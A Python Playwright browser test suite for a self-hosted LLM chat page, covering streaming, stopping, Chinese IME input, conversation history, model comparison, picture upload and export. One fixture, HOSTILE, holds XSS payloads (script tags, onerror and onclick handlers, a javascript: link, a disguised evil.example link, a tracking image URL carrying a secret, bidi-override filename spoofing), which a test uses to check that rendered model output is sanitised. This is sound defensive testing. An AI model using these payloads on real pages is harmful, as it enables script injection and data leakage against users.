"""The chat page in a real browser: asked, stopped, composed in Chinese, compared, kept, cut off, attacked."""

from __future__ import annotations

import base64
import json
import re
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.chaos.installation import Installation
from tests.e2e.browser import CHROMIUM, MISSING
from tests.e2e.test_pages import SOON_MS, expect, person
from tests.engines.simulated import SimulatedEngine

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=MISSING)
ECHO, SLOW, SEER = "echo-think:latest", "slow:latest", "seer"
HOSTILE = """# Title

**bold** <img src=x onerror="document.title='broken'"> <script>document.title='broken'</script>
[bank](javascript:document.title='broken') [https://bank.example](https://evil.example/) [data](data:text/html,x)
![stolen](https://evil.example/x.png?secret) <a href="https://evil.example" style="position:fixed">big</a>

<div onclick="document.title='broken'">block</div>

```html" onclick="x
<b>&amp;</b>
```

user\u202egnp.exe \u2066hidden\u2069
"""


@pytest.fixture(scope="module")
def slow() -> Iterator[SimulatedEngine]:
    """An engine with one slot that takes long for each word."""
    flags: dict[str, Any] = {"words": 2000, "tokens_per_second": 25, "slots": 1, "preload": True}
    with SimulatedEngine(model="slow", dialect="ollama", **flags) as engine:
        yield engine


@pytest.fixture(scope="module")
def site(slow: SimulatedEngine) -> Iterator[Installation]:
    """One installation with three engines: one says all again after thinking, one is slow, one may see pictures."""
    made = Installation(DPL_POLL_INTERVAL_S=1)
    flags: dict[str, Any] = {"latency_ms": 30, "tokens_per_second": 300, "echo": True, "preload": True}
    try:
        made.start()
        with (
            SimulatedEngine(model="echo-think", dialect="ollama", **flags) as one,
            SimulatedEngine(model=SEER, dialect="openai", **flags) as other,
        ):
            made.manage("node", "add", "<b>echo</b>", "--llm", one.url, "--slots", "4")
            made.manage("node", "add", "slow", "--llm", slow.url, "--slots", "1")
            made.manage("node", "add", "seeing", "--llm", other.url, "--slots", "4")
            yield made
    finally:
        made.stop()


def visit(page: Any, site: Installation, model: str = ECHO, path: str = "/chat/") -> None:
    page.goto(site.url + path)
    expect(mark(page)).to_have_attribute("data-is", "live", timeout=SOON_MS)
    page.select_option("[name=model]", model)


def mark(page: Any) -> Any:
    return page.locator("[data-live=chat]")


def say(page: Any, text: str) -> None:
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")


def answers(page: Any) -> Any:
    return page.locator(".turn .answer")


def is_answered(page: Any, count: int) -> None:
    expect(page.locator(".answer[aria-busy=false]")).to_have_count(count, timeout=SOON_MS)


def act(page: Any, name: str, within: str = "#chat") -> None:
    page.locator(f'{within} [data-act="{name}"]').last.click()


def more(page: Any, name: str) -> None:
    page.get_by_text("More", exact=True).click()
    act(page, name)


def in_flight(engine: SimulatedEngine) -> int:
    return int(engine.stats()["in_flight"])


def test_from_the_first_visit_to_the_first_answer(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        page.get_by_role("link", name="Chat").click()
        page.wait_for_url(f"{site.url}/chat/")
        expect(page.get_by_text("Ask anything")).to_be_visible()
        expect(mark(page)).to_have_attribute("data-is", "live", timeout=SOON_MS)
        page.select_option("[name=model]", ECHO)
        say(page, "say **this**\n\n```python\nprint(1)\n```")
        is_answered(page, 1)
        answer = answers(page).first
        expect(answer.locator("[data-text] strong")).to_have_text("this")
        expect(answer.locator("[data-model]")).to_have_text(ECHO)
        expect(answer.locator("[data-node]")).to_have_text("<b>echo</b>")
        expect(answer.locator("[data-figures]")).to_contain_text(re.compile(r"first token after .* tokens"))
        answer.locator("[data-why] summary").click()
        expect(answer.locator("[data-why] li").first).to_contain_text("done in about")
        expect(answer.locator("[data-thoughts] > div")).to_be_hidden()
        answer.locator("[data-thoughts] summary").click()
        expect(answer.locator("[data-thoughts] > div")).to_have_text("Let me think.")
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        act(page, "copy-code")
        assert page.evaluate("navigator.clipboard.readText()").strip() == "print(1)"


def test_conversations_are_kept_found_renamed_deleted_and_had_back(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        say(page, "about whales")
        is_answered(page, 1)
        address = page.url
        assert re.search(r"/chat/[0-9a-f-]{36}/$", address)
        act(page, "new")
        expect(answers(page)).to_have_count(0)
        say(page, "about <i>trains</i>")
        is_answered(page, 1)
        page.goto(address)
        expect(answers(page).locator("[data-text]")).to_have_text("about whales")
        rows = page.locator("[data-list=talks] > li")
        expect(rows).to_have_count(2)
        page.keyboard.press("Escape")
        page.locator("h1").click()
        page.keyboard.press("/")
        page.keyboard.type("trains")
        expect(rows).to_have_count(1)
        rows.locator("a").click()
        expect(answers(page).locator("[data-text]")).to_have_text("about <i>trains</i>")
        page.fill("[data-find]", "")
        more(page, "rename")
        page.fill("#rename input", "Railways")
        page.get_by_role("button", name="Save").click()
        expect(page.locator("[data-title]")).to_have_text("Railways")
        more(page, "delete")
        expect(rows).to_have_count(1)
        act(page, "undo")
        expect(rows).to_have_count(2)
        expect(page.locator("[data-title]")).to_have_text("Railways")
        page.go_back()
        expect(page.locator("[data-turns]")).to_be_visible()


def test_a_stop_frees_the_slot_and_keeps_what_came(
    site: Installation, slow: SimulatedEngine, chromium: Any
) -> None:
    with person(chromium, site) as page:
        visit(page, site, SLOW)
        say(page, "go on")
        expect(answers(page).locator("[data-text]")).to_contain_text("machine", timeout=SOON_MS)
        assert in_flight(slow) == 1
        act(page, "stop")
        is_answered(page, 1)
        expect(answers(page).locator("[data-note]")).to_have_text("Stopped.")
        expect(answers(page).locator("[data-text]")).to_contain_text("machine")
        site.wait_for(lambda: in_flight(slow) == 0, 10, "the engine to be free")
        say(page, "again")
        expect(answers(page).nth(1).locator("[data-text]")).to_contain_text("machine", timeout=SOON_MS)
        page.keyboard.press("Escape")
        is_answered(page, 2)
        site.wait_for(lambda: in_flight(slow) == 0, 10, "the engine to be free again")


def test_leaving_the_page_cancels_and_the_rest_is_told_later(
    site: Installation, slow: SimulatedEngine, chromium: Any
) -> None:
    with person(chromium, site) as page:
        visit(page, site, SLOW)
        say(page, "go on")
        expect(answers(page).locator("[data-text]")).to_contain_text("machine", timeout=SOON_MS)
        page.wait_for_timeout(2000)
        other = page.context.new_page()
        address = page.url
        page.close()
        site.wait_for(lambda: in_flight(slow) == 0, 10, "the engine to be free")
        other.goto(address)
        expect(answers(other).locator("[data-note]")).to_contain_text("The page was left")
        expect(answers(other).locator("[data-text]")).to_contain_text("machine")


def test_enter_sends_but_not_while_a_character_is_composed(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        field = page.locator("#prompt")
        field.focus()
        keyboard = page.context.new_cdp_session(page)
        keyboard.send("Input.imeSetComposition", {"text": "ni hao", "selectionStart": 6, "selectionEnd": 6})
        page.keyboard.press("Enter")
        expect(page.locator(".turn")).to_have_count(0)
        keyboard.send("Input.insertText", {"text": "你好"})
        # Safari ends the composition first; only the number of the key gives its Enter away.
        field.evaluate(
            """(field) => {
                field.dispatchEvent(new CompositionEvent("compositionend", { bubbles: true, data: "你好" }));
                field.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", keyCode: 229, bubbles: true }));
                field.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", isComposing: true, bubbles: true }));
            }"""
        )
        expect(page.locator(".turn")).to_have_count(0)
        expect(field).to_have_value(re.compile("你好"))
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("second line")
        page.keyboard.press("Enter")
        is_answered(page, 1)
        expect(page.locator("[data-question]")).to_contain_text("你好\nsecond line", use_inner_text=True)
        expect(field).to_have_value("")


def test_what_a_model_writes_can_do_nothing(site: Installation, chromium: Any) -> None:
    asked: list[str] = []
    with person(chromium, site) as page:
        page.on("request", lambda request: asked.append(request.url))
        visit(page, site)
        say(page, HOSTILE)
        is_answered(page, 1)
        text = answers(page).locator("[data-text]")
        for selector in (
            "img",
            "script",
            "style",
            "[style]",
            "[onclick]",
            "[onerror]",
            "iframe",
            "div[onclick]",
        ):
            expect(text.locator(selector)).to_have_count(0)
        expect(text.locator("a")).to_have_count(1)
        link = text.locator("a")
        expect(link).to_have_attribute("href", "https://evil.example/")
        expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
        expect(text).to_contain_text("(goes to evil.example)")
        expect(text).to_contain_text("[picture: stolen]")
        expect(text).to_contain_text("⟦U+202E⟧gnp.exe")
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", text.inner_text())
        page.wait_for_timeout(300)
        assert "broken" not in page.title()
        assert [url for url in asked if not url.startswith((site.url, "data:", "ws"))] == []


def test_two_models_are_compared_side_by_side(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        act(page, "compare")
        page.select_option("[name=second]", SEER)
        say(page, "who are you")
        is_answered(page, 2)
        expect(answers(page).nth(0).locator("[data-model]")).to_have_text(ECHO)
        expect(answers(page).nth(1).locator("[data-model]")).to_have_text(SEER)
        one, other = (answers(page).nth(place).bounding_box() for place in (0, 1))
        assert one["y"] == other["y"]
        assert one["x"] + one["width"] <= other["x"]
        say(page, "and now")
        is_answered(page, 4)


def test_earlier_messages_are_edited_and_answers_made_again(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        for count, text in enumerate(("first", "second", "third"), 1):
            say(page, text)
            is_answered(page, count)
        page.locator(".turn").nth(0).locator("[data-act=edit]").click()
        page.fill(".turn:first-child [data-edit] textarea", "first, but other")
        page.press(".turn:first-child [data-edit] textarea", "Enter")
        expect(page.locator(".turn")).to_have_count(1)
        is_answered(page, 1)
        expect(answers(page).locator("[data-text]")).to_have_text("first, but other")
        act(page, "undo")
        expect(page.locator(".turn")).to_have_count(3)
        expect(page.locator("[data-question]").first).to_have_text("first")
        act(page, "regenerate")
        is_answered(page, 3)
        expect(page.locator("[data-undo]")).to_contain_text("The earlier answer was replaced.")


def test_only_the_message_that_grows_is_drawn(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        say(page, "settled")
        is_answered(page, 1)
        page.evaluate(
            """() => {
                window.touched = 0;
                const watch = new MutationObserver((changes) => (window.touched += changes.length));
                watch.observe(document.querySelector(".turn"), { subtree: true, childList: true, characterData: true });
            }"""
        )
        say(page, "words " * 300)
        is_answered(page, 2)
        assert page.evaluate("window.touched") == 0


def test_pictures_go_with_a_message_where_they_may(site: Installation, chromium: Any, tmp_path: Path) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        expect(page.locator("#picture-help")).to_have_text(f"{ECHO} takes no pictures.")
        expect(page.locator("[name=picture]")).to_be_disabled()
        page.select_option("[name=model]", SEER)
        sent: list[Any] = []
        page.on(
            "websocket", lambda socket: socket.on("framesent", lambda data: sent.append(json.loads(data)))
        )
        visit(page, site, SEER)
        file = tmp_path / "wide.png"
        file.write_bytes(a_picture(2000, 20))
        page.set_input_files("[name=picture]", file)
        expect(page.locator("[data-pictures] img")).to_have_count(1)
        page.locator("#prompt").evaluate(
            """(field, data) => {
                const bytes = Uint8Array.from(atob(data), (one) => one.charCodeAt(0));
                const held = new DataTransfer();
                held.items.add(new File([bytes], "a.png", { type: "image/png" }));
                const how = { clipboardData: held, bubbles: true, cancelable: true };
                field.dispatchEvent(new ClipboardEvent("paste", how));
            }""",
            base64.b64encode(a_picture(4, 4)).decode(),
        )
        expect(page.locator("[data-pictures] img")).to_have_count(2)
        say(page, "what is it")
        is_answered(page, 1)
        expect(page.locator("[data-shown-pictures] img")).to_have_count(2)
        text, wide, small = sent[-1]["messages"][0]["content"]
        assert text == {"type": "text", "text": "what is it"}
        assert wide["image_url"]["url"].startswith("data:image/jpeg;base64,"), "a wide one is made smaller"
        assert small["image_url"]["url"].startswith("data:image/png;base64,")


def a_picture(width: int, height: int) -> bytes:
    """A grey PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x80" * width) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_prompt_and_parameters_go_along_and_stay(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        sent: list[Any] = []
        page.on(
            "websocket", lambda socket: socket.on("framesent", lambda data: sent.append(json.loads(data)))
        )
        visit(page, site)
        page.click(".settings summary")
        page.fill("[name=system]", "be brief")
        page.fill("[name=temperature]", "0.2")
        page.fill("[name=seed]", "7")
        page.fill("[name=stop]", "a\nb")
        page.fill("[name=max_tokens]", "0")
        page.click(".settings summary")
        say(page, "hello")
        expect(page.locator("[name=max_tokens]")).to_be_visible()
        expect(page.locator(".turn")).to_have_count(0)
        page.fill("[name=max_tokens]", "50")
        page.press("#prompt", "Enter")
        is_answered(page, 1)
        assert sent[-1]["options"] == {"temperature": 0.2, "seed": 7, "max_tokens": 50, "stop": ["a", "b"]}
        assert sent[-1]["messages"][0] == {"role": "system", "content": "be brief"}
        page.reload()
        expect(page.locator("[name=temperature]")).to_have_value("0.2")
        expect(page.locator("[name=model]")).to_have_value(ECHO)


def test_without_a_socket_answers_come_whole_and_it_says_so(
    site: Installation, slow: SimulatedEngine, chromium: Any
) -> None:
    with person(chromium, site) as page:
        is_down = [True]
        page.route_web_socket(
            "**/ws/**", lambda socket: socket.close() if is_down else socket.connect_to_server()
        )
        page.goto(f"{site.url}/chat/")
        expect(mark(page)).to_have_attribute("data-is", "polling", timeout=SOON_MS)
        expect(mark(page)).to_contain_text("answers come in one piece")
        page.select_option("[name=model]", ECHO)
        say(page, "still **there**")
        is_answered(page, 1)
        expect(answers(page).locator("[data-text] strong")).to_have_text("there")
        expect(answers(page).locator("[data-node]")).to_have_text("<b>echo</b>")
        page.select_option("[name=model]", SLOW)
        say(page, "go on")
        site.wait_for(lambda: in_flight(slow) == 1, 10, "the engine to be asked")
        act(page, "stop")
        is_answered(page, 2)
        site.wait_for(lambda: in_flight(slow) == 0, 10, "the engine to be free")
        is_down.clear()
        expect(mark(page)).to_have_attribute("data-is", "live", timeout=2 * SOON_MS)
        say(page, "live again")
        expect(answers(page)).to_have_count(3)
        page.keyboard.press("Escape")


def test_a_line_that_breaks_is_told_at_the_answer_and_comes_back(
    site: Installation, slow: SimulatedEngine, chromium: Any
) -> None:
    with person(chromium, site) as page:
        lines: list[Any] = []

        def through(socket: Any) -> None:
            lines.extend((socket, socket.connect_to_server()))

        page.route_web_socket("**/ws/chat/", through)
        visit(page, site, SLOW)
        say(page, "go on")
        expect(answers(page).locator("[data-text]")).to_contain_text("machine", timeout=SOON_MS)
        for end in lines[-2:]:
            end.close(code=3001)
        expect(answers(page).locator("[data-note]")).to_contain_text("The connection broke", timeout=SOON_MS)
        expect(mark(page)).to_have_attribute("data-is", "live", timeout=SOON_MS)
        site.wait_for(lambda: in_flight(slow) == 0, 10, "the engine to be free")


def test_it_works_without_scripts(site: Installation, chromium: Any) -> None:
    with person(chromium, site, java_script_enabled=False) as page:
        page.goto(f"{site.url}/chat/")
        page.select_option("[name=model]", ECHO)
        for text in ("one <b>", "two"):
            page.fill("#prompt", text)
            page.get_by_role("button", name="Send").click()
        expect(page.locator(".answer .text")).to_have_text(["one <b>", "two"])
        expect(page.locator(".said .text")).to_have_text(["one <b>", "two"])
        expect(page.locator("[name=model]")).to_have_value(ECHO)


def test_an_error_says_what_to_do(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        page.locator("[name=model]").evaluate("(field) => field.add(new Option('gone', 'gone', true, true))")
        say(page, "anyone?")
        note = answers(page).locator("[data-note]")
        expect(note).to_contain_text(
            "No machine has this model now. Choose another one above.", timeout=SOON_MS
        )
        page.select_option("[name=model]", ECHO)
        act(page, "regenerate")
        expect(answers(page).locator("[data-text]")).to_have_text("anyone?", timeout=SOON_MS)


def test_it_exports_as_markdown_and_as_json(site: Installation, chromium: Any) -> None:
    with person(chromium, site) as page:
        visit(page, site)
        say(page, "keep *this*")
        is_answered(page, 1)
        with page.expect_download() as download:
            more(page, "markdown")
        text = Path(download.value.path()).read_text()
        assert text.count("keep *this*") >= 2
        assert "## You" in text
        with page.expect_download() as download:
            more(page, "json")
        told = json.loads(Path(download.value.path()).read_text())
        assert told["turns"][0]["answers"][0]["node"]["name"] == "<b>echo</b>"


def test_on_a_phone_the_conversations_are_behind_a_button(site: Installation, chromium: Any) -> None:
    options: dict[str, Any] = {
        "viewport": {"width": 390, "height": 700},
        "locale": "zh-CN",
        "has_touch": True,
        "is_mobile": True,
    }
    with person(chromium, site, **options) as page:
        visit(page, site)
        expect(page.locator("#talks")).to_be_hidden()
        say(page, "你好 " + "x" * 300)
        is_answered(page, 1)
        page.locator("[data-act=open-talks]").click()
        expect(page.locator("[data-list=talks] > li")).to_have_count(1)
        page.locator("[data-act=close-talks]").click()
        expect(page.locator("#talks")).to_be_hidden()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        field = page.locator("#prompt").bounding_box()
        assert field["y"] + field["height"] <= 700


def test_an_answer_goes_on_while_another_conversation_is_open(
    site: Installation, slow: SimulatedEngine, chromium: Any
) -> None:
    with person(chromium, site) as page:
        visit(page, site, SLOW)
        say(page, "go on")
        expect(answers(page).locator("[data-text]")).to_contain_text("machine", timeout=SOON_MS)
        act(page, "new")
        page.select_option("[name=model]", ECHO)
        say(page, "meanwhile")
        is_answered(page, 1)
        assert in_flight(slow) == 1
        page.locator("[data-list=talks] a", has_text="go on").click()
        expect(page.locator(".answer[aria-busy=true]")).to_have_count(1)
        more(page, "delete")
        site.wait_for(lambda: in_flight(slow) == 0, 10, "the engine to be free")
        expect(page.locator("[data-list=talks] > li")).to_have_count(1)
        act(page, "undo")
        expect(answers(page).locator("[data-note]")).to_contain_text("The page was left")
